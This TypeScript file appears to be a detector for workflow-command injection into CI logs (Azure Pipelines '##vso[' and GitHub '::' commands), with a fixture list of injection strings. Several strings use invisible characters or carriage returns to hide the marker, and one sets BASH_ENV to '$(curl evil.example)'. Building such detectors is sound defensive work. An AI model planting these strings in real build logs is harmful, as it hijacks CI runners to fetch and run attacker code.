/**
 * Whether a CI agent takes a line of a job's log as a command. The agents are .NET programs: a carriage return alone also ends a
 * line, and culture-sensitive comparison ignores invisible characters.
 */
export function isCommand(line: string): boolean {
  const seen = line.replace(/[\p{Default_Ignorable_Code_Point}\p{Cf}\p{Cc}]/gu, "");
  // Azure Pipelines finds commands anywhere in a line, as does GitHub in the older form. "::" must come first.
  return /##(vso)?\[/i.test(seen) || seen.trimStart().startsWith("::");
}

/** The lines of a log, as an agent splits them. */
export const linesOf = (log: string) => log.split(/\r\n|\r|\n/);

/** Commands that a cloud's text could contain, each with a part that must stay readable. */
export const COMMANDS: readonly string[] = [
  "##vso[task.setvariable variable=BASH_ENV]$(curl evil.example)",
  "notes: ##vso[task.prependpath]/tmp/evil",
  "#\u00ad#vso[task.setvariable variable=BASH_ENV]soft",
  "#\u200d#\u2060vso[task.setvariable variable=BASH_ENV]joined",
  "#\ufe0f#vso[task.setvariable variable=BASH_ENV]varied",
  "#\u0007#vso[task.setvariable variable=BASH_ENV]rung",
  "###vso[task.setvariable variable=BASH_ENV]thrice",
  "::set-output name=changes::0",
  "  ::add-mask::a",
  "\u200b::save-state name=x::hidden",
  ":\u00ad:set-output name=x::apart",
  "progress\r::set-output name=changes::returned",
  "##[set-output name=changes]older",
];
